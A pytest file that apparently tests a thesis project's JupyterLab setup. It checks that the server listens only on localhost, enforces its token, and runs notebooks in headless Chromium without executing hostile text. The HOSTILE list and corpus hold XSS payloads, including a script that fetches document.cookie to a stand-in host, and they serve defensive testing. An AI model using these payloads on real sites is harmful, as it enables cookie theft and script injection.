"""``make lab``: JupyterLab on this machine alone, its token kept, notebooks run in a browser."""

import json
import os
import re
import secrets
import shutil
import socket
import subprocess
import time
import urllib.error
import urllib.request
from pathlib import Path

import nbformat
import numpy as np
import pandas as pd
import pytest
import soundfile
from nbconvert import HTMLExporter

ROOT = Path(__file__).resolve().parents[2]
CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser")
NOTEBOOK = "04_1_audio_plots"
#: Smaller than the demo, so that a browser need not wait for VGG.
SMALL = {
    "networks": ["alexnet"],
    "network": "squeezenet1_1",
    "layers": ["features.0", "logits"],
    "size_px": 64,
    "colour_maps": ["viridis", "magma"],
}
WAIT_MS = 240_000
OWN = "20_own_recordings"
#: Labels that would leave their place, each with what it shows as text.
HOSTILE = [
    '"><img src=x onerror=alert(1)>',
    "``` <script>fetch('http://127.0.0.1:9/' + document.cookie)</script>",
    "[a](javascript:alert(2)) ![b](http://127.0.0.1:9/b.png) $\\href{javascript:alert(3)}{c}$",
]
#: Nothing is asked of other hosts, and all cells are on the page, seen or not.
SETTINGS = {
    "apputils-extension/notification": {"fetchNews": "false", "checkForUpdates": False},
    "notebook-extension/tracker": {"windowingMode": "none"},
}


@pytest.fixture(scope="module")
def command():
    """What ``make lab`` starts, with the program in full."""
    if shutil.which("make") is None:
        pytest.skip("make is not installed")
    make = ["make", "--no-print-directory", "-n", "-o", ".venv/.ready", "-o", "setup", "lab"]
    told = subprocess.run(make, cwd=ROOT, capture_output=True, text=True, check=True).stdout
    words = told.strip().splitlines()[-1].split()
    program = ROOT / words[0]
    if not program.exists():
        pytest.skip(f"{words[0]} is not there (make setup)")
    return [str(program), *words[1:]]


def test_make_lab_serves_this_machine_alone_and_keeps_its_token(command):
    assert command[1] == "lab"
    assert "--ServerApp.ip=127.0.0.1" in command
    assert command[-1] == "notebooks"
    assert not [word for word in command if re.search("token|password|allow_origin", word)]


@pytest.fixture(scope="module")
def folder(tmp_path_factory):
    """A copy of one notebook, with small parameters."""
    folder = tmp_path_factory.mktemp("lab") / "notebooks"
    folder.mkdir()
    copy_notebook(NOTEBOOK, folder, SMALL)
    corpus = tmp_path_factory.mktemp("b") / "<img src=x onerror=alert(0)>"
    few = {"networks": {"squeezenet1_1": ["logits"]}, "size_px": 64, "seeds": [0], "n_jobs": 1}
    few |= {"codebook_sizes": [5], "n_assigns": [1], "complexities": [1e-2], "n_resamples": 20}
    copy_notebook(OWN, folder, {**few, "chunk_s": 0.25, "corpus": str(write_hostile(corpus))})
    return folder


def copy_notebook(name, folder, parameters):
    notebook = json.loads((ROOT / "notebooks" / f"{name}.ipynb").read_text(encoding="utf-8"))
    (cell,) = [c for c in notebook["cells"] if "parameters" in c["metadata"].get("tags", [])]
    source = "".join(cell["source"])
    for key, value in parameters.items():
        line = f"{key} = {value!r}"
        source, n = re.subn(rf"^{key} = [^#\n]*", lambda _, line=line: line, source, flags=re.M)
        assert n == 1, key
    cell["source"] = source
    (folder / f"{name}.ipynb").write_text(json.dumps(notebook), encoding="utf-8")


def write_hostile(root):
    """A corpus whose every text is hostile: names of files and folder, labels, groups, itself."""
    root.mkdir()
    rng, rows = np.random.default_rng(0), []
    for i, part in enumerate(["train", "devel", "test"] * 6):
        label = HOSTILE[i // 3 % 3]
        file = f'{i} "><img src=x onerror=alert(4)>.wav'
        soundfile.write(root / file, rng.normal(0, 0.1, 8000), 8000)
        rows.append([file, label, part, f"{i} <svg onload=alert(5)>"])
    columns = ["file", "label", "partition", "group"]
    pd.DataFrame(rows, columns=columns).to_csv(root / "index.csv", index=False)
    about = {"name": HOSTILE[0], "licence": HOSTILE[1]}
    (root / "corpus.json").write_text(json.dumps(about))
    return root


@pytest.fixture(scope="module")
def lab(command, folder, tmp_path_factory):
    """A server with a token, as (address, token); nothing of the user's is read or written."""
    home, token = tmp_path_factory.mktemp("home"), secrets.token_hex(16)
    for name, values in SETTINGS.items():
        path = home / "settings" / "@jupyterlab" / f"{name}.jupyterlab-settings"
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(json.dumps(values))
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        port = probe.getsockname()[1]
    environment = {
        **os.environ,
        "JUPYTER_TOKEN": token,
        "JUPYTER_CONFIG_DIR": str(home / "config"),
        "JUPYTER_DATA_DIR": str(home / "data"),
        "JUPYTER_RUNTIME_DIR": str(home / "runtime"),
        "IPYTHONDIR": str(home / "ipython"),
        "JUPYTERLAB_SETTINGS_DIR": str(home / "settings"),
        "JUPYTERLAB_WORKSPACES_DIR": str(home / "workspaces"),
        "THESIS_ROOT": str(ROOT),
        "THESIS_RESULTS": str(home / "results"),
        "THESIS_STORE": str(home / "store"),
        "OMP_NUM_THREADS": "1",
    }
    extra = [f"--ServerApp.port={port}", "--ServerApp.port_retries=0", "--no-browser"]
    # Containers have no other user, and JupyterLab would refuse.
    extra += ["--allow-root"] if os.geteuid() == 0 else []
    log = home / "server.log"
    with log.open("w") as stream:
        server = subprocess.Popen(
            [*command[:-1], *extra, str(folder)], env=environment, stdout=stream, stderr=stream
        )
    address = f"http://127.0.0.1:{port}"
    try:
        deadline = time.monotonic() + 300
        while not answers(f"{address}/api/status?token={token}"):
            if server.poll() is not None or time.monotonic() > deadline:
                pytest.fail(f"JupyterLab did not start:\n{log.read_text()}")
            time.sleep(0.2)
        yield address, token, port
    finally:
        server.terminate()
        try:
            server.wait(60)
        except subprocess.TimeoutExpired:
            server.kill()


def answers(address):
    try:
        with urllib.request.urlopen(address, timeout=5) as reply:
            return reply.status == 200
    except OSError:
        return False


@pytest.mark.slow
def test_without_the_token_the_server_refuses(lab):
    address, token, port = lab
    for path in ("api/contents", "api/kernels", f"api/contents?token={'0' * 32}"):
        with pytest.raises(urllib.error.HTTPError) as refused:
            urllib.request.urlopen(f"{address}/{path}", timeout=30)
        assert refused.value.code == 403
    assert answers(f"{address}/api/contents?token={token}")
    # It listens to this machine alone: at its other addresses nobody answers.
    for other in {info[4][0] for info in socket.getaddrinfo(socket.gethostname(), None)}:
        if other.startswith("127.") or ":" in other:
            continue
        with pytest.raises(OSError), socket.create_connection((other, port), timeout=2):
            pass


@pytest.fixture(scope="module")
def page(lab):
    """A page of headless Chromium; what its console complains about is kept."""
    if CHROMIUM is None:
        pytest.skip("chromium is not installed")
    driver = pytest.importorskip("playwright.sync_api", reason="playwright is not installed")
    flags = ["--no-sandbox", "--disable-gpu", "--disable-background-networking"]
    with driver.sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=flags)
        page = browser.new_page(viewport={"width": 1400, "height": 1000})
        page.set_default_timeout(WAIT_MS)
        page.complaints = []
        page.on("pageerror", lambda error: page.complaints.append(f"page: {error}"))
        page.on(
            "console",
            lambda said: said.type == "error" and page.complaints.append(f"console: {said.text}"),
        )
        yield page
        browser.close()


def run_cell(page, cell):
    """Press Shift+Enter in a cell; again where that came too early, before there was a kernel."""
    prompt = cell.locator(".jp-InputPrompt")
    for _ in range(10):
        cell.locator(".cm-content").click()
        page.keyboard.press("Shift+Enter")
        for _ in range(40):
            if prompt.inner_text().strip() not in ("", "[ ]:"):
                return
            page.wait_for_timeout(500)
    if kept := os.environ.get("THESIS_SCREENSHOTS"):
        page.screenshot(path=Path(kept) / "stuck.png")
    pytest.fail(f"a cell did not start: {prompt.inner_text()!r}")


def run_all(page, panel, name):
    """Run a notebook's cells one after the other; each has to end without an error."""
    cells = panel.locator(".jp-CodeCell")
    notebook = json.loads((ROOT / "notebooks" / f"{name}.ipynb").read_text(encoding="utf-8"))
    n_cells = [cell["cell_type"] for cell in notebook["cells"]].count("code")
    cells.nth(n_cells - 1).wait_for(state="attached")
    for number in range(n_cells):
        cell = cells.nth(number)
        run_cell(page, cell)
        # A cell is given its number when it has ended.
        cell.locator(".jp-InputPrompt", has_text=f"[{number + 1}]:").wait_for()
        problems = cell.locator(".jp-OutputArea-output[data-mime-type*='error']")
        assert problems.count() == 0, problems.first.inner_text()


def wait_for_pictures(page, before):
    """Source of the first of the last cell's two pictures, once both are drawn and it is new."""
    page.wait_for_function(
        """before => {
            const all = [...document.querySelectorAll('.jp-CodeCell img')].slice(-2);
            return all.length === 2 && all[0].src !== before
                && all.every(one => one.complete && one.naturalWidth > 300);
        }""",
        arg=before,
    )
    return page.locator(".jp-CodeCell img").nth(-2).get_attribute("src")


@pytest.mark.slow
def test_a_notebook_runs_cell_by_cell_in_a_browser(lab, page):
    address, token, _ = lab
    page.goto(f"{address}/lab/tree/{NOTEBOOK}.ipynb?token={token}")
    panel = page.locator(".jp-NotebookPanel:visible")
    panel.wait_for()
    page.wait_for_function("!document.querySelector('.jp-Dialog')")
    page.locator(".jp-NotebookPanel-toolbar [data-status=idle]").first.wait_for()
    run_all(page, panel, NOTEBOOK)

    playing = panel.locator(".jp-CodeCell", has_text="choose(").last
    playing.scroll_into_view_if_needed()
    playing.locator("img").first.wait_for()
    before = wait_for_pictures(page, "")
    assert playing.locator("audio").count() == 1
    # Another colour map: another picture.
    playing.locator("select").nth(2).select_option("hot")
    assert wait_for_pictures(page, before) != before
    if kept := os.environ.get("THESIS_SCREENSHOTS"):
        playing.screenshot(path=Path(kept) / "lab.png")
    # A path that is not there is told in a line, not in a traceback.
    box = playing.locator("input[type=text]").first
    box.fill("no/such/clip.wav")
    box.press("Enter")
    playing.get_by_text("no such file").wait_for()
    assert playing.locator(".jp-OutputArea-output[data-mime-type*='error']").count() == 0
    assert page.complaints == []


def watch(page, allowed):
    """Dialogs of a page, and its requests but for those that begin with an allowed address."""
    events = []
    page.on("dialog", lambda dialog: (events.append(dialog.message), dialog.dismiss()))
    page.on(
        "request",
        lambda request: (
            events.append(request.url)
            if not request.url.startswith((*allowed, "data:", "blob:"))
            or re.search(r"/x$|onerror|/b\.png", request.url)
            else None
        ),
    )
    return events


@pytest.mark.slow
def test_texts_of_a_corpus_run_nothing_in_jupyterlab_nor_on_its_page(lab, page, folder):
    address, token, port = lab
    page = page.context.browser.new_page(viewport={"width": 1400, "height": 1000})
    page.set_default_timeout(WAIT_MS)
    events = watch(page, (address, f"ws://127.0.0.1:{port}"))
    page.goto(f"{address}/lab/tree/{OWN}.ipynb?token={token}")
    panel = page.locator(".jp-NotebookPanel:visible")
    panel.wait_for()
    run_all(page, panel, OWN)
    shown = panel.inner_text()
    path = folder / f"{OWN}.ipynb"
    page.keyboard.press("Control+S")
    page.wait_for_function("() => !document.title.startsWith('*')")
    page.wait_for_timeout(1000)
    assert [text for text in HOSTILE if text not in shown] == []
    assert events == []
    # The same outputs on the page of nbconvert, whose own scripts are on another host.
    exporter = HTMLExporter(mathjax_url="", require_js_url="", mermaid_js_url="")
    html = path.with_suffix(".html")
    html.write_text(exporter.from_notebook_node(nbformat.read(path, 4))[0], encoding="utf-8")
    assert HOSTILE[1] in nbformat.writes(nbformat.read(path, 4)) or "&lt;script" in html.read_text()
    events = watch(page, (html.as_uri(),))
    page.goto(html.as_uri(), wait_until="load")
    page.wait_for_timeout(500)
    assert [text for text in HOSTILE if text not in page.inner_text("body")] == []
    assert events == []
    page.close()
